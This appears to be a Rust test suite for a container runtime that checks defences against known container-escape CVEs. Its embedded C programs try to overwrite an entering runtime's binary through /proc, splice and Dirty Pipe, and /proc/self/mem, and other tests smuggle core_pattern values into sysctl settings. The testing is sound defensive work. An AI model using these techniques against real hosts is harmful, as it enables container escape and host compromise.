//! Processes in a container that may look into others (`CAP_SYS_PTRACE`) watch who enters, in containers of the engine and of the OCI
//! runtime; and what a runtime does in a container by names that the container has chosen.

use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::attacks::state_of_the_host;
use crate::bundle::{Bundle, runtime};
use crate::host::Host;

/// How long somebody watches. The programs are told.
const WATCH: Duration = Duration::from_secs(3);

/// Looks for a file of the host in the root, the working directory and the descriptors of all processes.
const LOOK: &str = r#"
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int count, char **words) {
    char path[300], link[300];
    int found = 0, seen = 0;
    for (time_t end = time(0) + 3; time(0) < end;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (atoi(entry->d_name) < 2 || atoi(entry->d_name) == getpid()) continue;
            seen = 1;
            for (int n = -2; n < 24; n++) {
                if (n < 0) snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, n == -2 ? "cwd" : "root", words[1]);
                else snprintf(path, sizeof path, "/proc/%s/fd/%d%s", entry->d_name, n, words[1]);
                if (access(path, F_OK) == 0) found++;
            }
        }
        closedir(proc);
    }
    printf("%s, found %d\n", seen ? "seen" : "not seen", found);
    return 0;
}
"#;

/// Writes to the pages of what processes execute from memory, by all ways that lead to a file's pages, and looks whether they changed.
const PAGES: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

static int seen, written, changed, unsealed;

static void attack(int file) {
    char before[4096], after[4096], link[64];
    if (pread(file, before, sizeof before, 0) != sizeof before) return;
    seen++;
    int seals = fcntl(file, F_GET_SEALS), all = F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE;
    if ((seals & all) != all) unsealed++;
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    int again = open(link, O_RDWR);
    for (int n = 0; n < 2; n++) {
        int target = n ? again : file;
        if (target < 0) continue;
        if (pwrite(target, "owned", 5, 0) > 0) written++;
        if (ftruncate(target, 0) == 0) written++;
        if (fallocate(target, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0) written++;
        /* A page of ours into the file. */
        int in[2];
        pipe(in);
        struct iovec page = { after, sizeof after };
        memset(after, 'x', sizeof after);
        vmsplice(in[1], &page, 1, SPLICE_F_GIFT);
        loff_t at = 0;
        if (splice(in[0], 0, target, &at, sizeof after, SPLICE_F_MOVE) > 0) written++;
        /* A page of the file into a pipe, and bytes of ours behind it: into the same page, if the pipe's buffer may be added to
           (CVE-2022-0847). */
        int out[2];
        pipe(out);
        for (int full = fcntl(out[1], F_GETPIPE_SZ), done = 0; done < full; done += 4096) write(out[1], after, 4096);
        for (int full = fcntl(out[1], F_GETPIPE_SZ), done = 0; done < full; done += 4096) read(out[0], after, 4096);
        at = 0;
        splice(target, &at, out[1], 0, 1, 0);
        write(out[1], "owned", 5);
        void *shared = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, target, 0);
        if (shared != MAP_FAILED) { memcpy(shared, "owned", 5); written++; }
        /* A private page is written to by force, as a debugger does. */
        void *own = mmap(0, 4096, PROT_READ, MAP_PRIVATE, target, 0);
        int memory = open("/proc/self/mem", O_RDWR);
        if (memory >= 0 && own != MAP_FAILED) pwrite(memory, "owned", 5, (off_t) own);
        close(memory); close(in[0]); close(in[1]); close(out[0]); close(out[1]);
        if (own != MAP_FAILED) munmap(own, 4096);
    }
    if (again >= 0) close(again);
    if (pread(file, after, sizeof after, 0) != sizeof after || memcmp(before, after, sizeof after)) changed++;
}

int main(void) {
    char path[300], link[300];
    for (time_t end = time(0) + 3; time(0) < end;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            if (atoi(entry->d_name) < 2 || atoi(entry->d_name) == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int file = open(path, O_RDONLY);
            /* What is open is looked at, not the process: that may execute something else meanwhile. */
            snprintf(path, sizeof path, "/proc/self/fd/%d", file);
            long length = file < 0 ? -1 : readlink(path, link, sizeof link - 1);
            link[length < 0 ? 0 : length] = 0;
            /* What the container has itself is its own to change. */
            if (strncmp(link, "/memfd:", 7) && access(link, F_OK) == 0) { close(file); continue; }
            if (file >= 0) attack(file);
            close(file);
        }
        closedir(proc);
    }
    printf("%s, written %d, changed %d, unsealed %d\n", seen ? "seen" : "not seen", written, changed, unsealed);
    return 0;
}
"#;

/// Has a program in a container of each kind watch while others enter, and returns what both say.
fn watch(host: &Host, name: &str, source: &str, word: &str) -> [String; 2] {
    let volume = host.compile(name, source);
    let program = format!("/tools/{name}");
    let flags = ["--network", "none", "--cap-add", "SYS_PTRACE", "-v", &volume];
    let id = host.start(&[&flags[..], &["busybox", &program, word]].concat());
    let mut bundle = Bundle::new(host, name);
    bundle
        .mount("/tools", "bind", host.path("tools").to_str().expect("UTF-8"), &["bind", "ro"])
        .trust("CAP_SYS_PTRACE");
    bundle.config["process"]["args"] = json!([program, word]);
    bundle.start("watcher", "output");
    let start = Instant::now();
    while start.elapsed() < WATCH + Duration::from_secs(1) && (host.is_running(&id) || bundle.status("watcher") == "running") {
        host.tinydock(&["exec", &id, "true"]);
        bundle.tell(&["exec", "watcher", "true"]);
        bundle.tell(&["exec", "watcher", "/proc/self/exe"]);
    }
    let engines = host.tinydock(&["logs", &id]).ok();
    [engines, bundle.finish("watcher", "output")]
}

/// CVE-2016-9962: a process that had just entered a container had the host's files still, and the container looked at them.
#[test]
fn who_enters_shows_nothing_of_the_host() {
    let host = Host::new();
    fs::write(host.path("secret"), "of the host").expect("write");
    let secret = host.path("secret");
    let [engines, runtimes] = watch(&host, "look", LOOK, secret.to_str().expect("UTF-8"));
    assert_eq!((engines.as_str(), runtimes.as_str()), ("seen, found 0\n", "seen, found 0\n"));
}

/// CVE-2019-5736: a container wrote to the runtime that had entered it. runc copied itself into memory, and later versions shared
/// the host's pages read-only instead, which are reached again by whoever can write to pages without opening a file for writing. Here
/// there is no file of the host: what enters is a memfd of its own for each process, sealed, and its pages cannot be changed.
#[test]
fn the_pages_of_who_enters_cannot_be_changed() {
    let host = Host::new();
    let before = state_of_the_host();
    let expected = "seen, written 0, changed 0, unsealed 0\n";
    let [engines, runtimes] = watch(&host, "pages", PAGES, "");
    assert_eq!((engines.as_str(), runtimes.as_str()), (expected, expected));
    assert_eq!(state_of_the_host(), before);
}

/// CVE-2025-31133: what hid files was the root's own `/dev/null`, which was a link by then. A root with another `/dev/null` hides
/// them as well, and by a name that leads through a link, too.
#[test]
fn hidden_files_stay_hidden() {
    let host = Host::new();
    let before = state_of_the_host();
    for (n, null) in ["/proc/sys/kernel/core_pattern", "/secret", "/proc/1/environ"]
        .into_iter()
        .enumerate()
    {
        let mut bundle = Bundle::new(&host, &format!("hidden{n}"));
        for directory in ["dev", "etc/keys"] {
            fs::create_dir_all(bundle.rootfs(directory)).expect("make a directory");
        }
        fs::write(bundle.rootfs("secret"), "secret").expect("write");
        fs::write(bundle.rootfs("etc/keys/key"), "secret").expect("write");
        symlink(null, bundle.rootfs("dev/null")).expect("link");
        symlink("proc", bundle.rootfs("truth")).expect("link");
        bundle.config["mounts"]
            .as_array_mut()
            .expect("a list")
            .retain(|mount| mount["destination"] == "/proc" || mount["destination"] == "/sys");
        bundle.mount("/etc", "tmpfs", "tmpfs", &["tmpcopyup"]);
        bundle.config["linux"]["maskedPaths"] = json!([
            "/truth/kcore",
            "/proc/keys",
            "/secret",
            "/etc/keys",
            "/proc/sys/kernel/core_pattern"
        ]);
        bundle.config["linux"]["readonlyPaths"] = json!(["/truth/sys"]);
        let read = "cat /secret /etc/keys/key /proc/keys /proc/kcore /proc/sys/kernel/core_pattern 2>/tmp; \
                    (echo 1 > /proc/sys/net/ipv4/ip_forward) 2>/tmp || echo refused";
        assert_eq!(bundle.script(read).run("victim").ok(), "refused\n", "{null}");
        assert_eq!(state_of_the_host(), before);
    }
}

/// Hooks of a container's own root are looked up in it, however a link of the root spells a program of the host; and they inherit
/// nothing. The hooks that have the host's power are not looked up there at all.
#[test]
fn hooks_are_found_where_they_are_said_to_be() {
    let host = Host::new();
    let mut bundle = Bundle::new(&host, "hooked");
    let program = host.path("program");
    fs::write(&program, format!("#!/bin/sh\ntouch {}\n", host.path("owned").display())).expect("write");
    host.sh("chmod +x program").ok();
    symlink(&program, bundle.rootfs("hook")).expect("link");
    bundle.config["hooks"] = json!({ "startContainer": [{ "path": "/hook" }] });
    bundle.script("true");
    let mut create = bundle.command("create", &[], "victim");
    assert!(
        create
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("run tinydock")
            .success()
    );
    let done = bundle.tell(&["start", "victim"]);
    let message = done.fails(1);
    assert!(message.contains("hooks.startContainer[0]"), "{message}");
    assert!(!host.path("owned").exists());
    bundle.tell(&["delete", "-f", "victim"]).ok();

    let list = "for n in /proc/self/fd/*; do readlink $n; done | grep -v -e pipe: -e /dev/null > /listed";
    bundle.config["hooks"] = json!({ "startContainer": [{ "path": "/bin/sh", "args": ["sh", "-c", list] }] });
    let mut create = bundle.command("create", &[], "victim");
    assert!(
        create
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("run tinydock")
            .success()
    );
    let started = runtime(&host, &["start", "victim"]).output().expect("run tinydock");
    // grep finds nothing, which a hook's status tells.
    assert_eq!(started.status.code(), Some(1), "{started:?}");
    assert_eq!(fs::read_to_string(bundle.rootfs("listed")).expect("read the list"), "");
}

/// CVE-2022-24769: inheritable capabilities were not empty. CVE-2022-0811: a setting's value had another setting in it.
#[test]
fn nothing_is_given_by_the_way() {
    let host = Host::new();
    let before = state_of_the_host();
    let mut bundle = Bundle::new(&host, "given");
    bundle.config["process"]["noNewPrivileges"] = json!(false);
    bundle.script("grep -hE 'Cap(Inh|Amb)' /proc/self/status");
    for user in [0, 1000] {
        bundle.config["process"]["user"]["uid"] = json!(user);
        let shown = bundle.run("victim").ok();
        assert_eq!(shown.matches("0000000000000000").count(), 2, "{shown}");
    }
    for (name, value) in [
        ("kernel.shm_rmid_forced", "1+kernel.core_pattern=|/evil"),
        ("kernel.shm_rmid_forced", "1\nkernel.core_pattern=|/evil"),
        ("net/../kernel/core_pattern", "|/evil"),
        ("net.//.kernel.core_pattern", "|/evil"),
        ("kernel.core_pattern", "|/evil"),
    ] {
        bundle.config["linux"]["sysctl"] = json!({ name: value });
        bundle.run("victim");
        assert_eq!(state_of_the_host(), before, "{name}");
    }
}

/// Streams that a container inherits stay whose they are: runc once gave the host's `/dev/null` to the container's user.
#[test]
fn nobody_is_given_the_hosts_files() {
    let host = Host::new();
    let owner = || {
        fs::metadata("/dev/null")
            .map(|found| (found.uid(), found.gid(), found.mode()))
            .expect("look at /dev/null")
    };
    let before = owner();
    let mut bundle = Bundle::new(&host, "owned");
    bundle.config["process"]["user"] = json!({ "uid": 1000, "gid": 1000 });
    assert!(bundle.script("id").run("one").ok().contains("uid=1000"));
    bundle.config["process"]["args"] = json!(["sleep", "1000"]);
    bundle.start("two", "output");
    assert!(
        bundle
            .tell(&["exec", "--user", "1000", "two", "id"])
            .ok()
            .contains("uid=1000")
    );
    // What setresuid(2) takes for "as it is" would be root.
    assert_eq!(bundle.tell(&["exec", "--user", "4294967295", "two", "id"]).code, 255);
    assert_eq!(owner(), before);
}
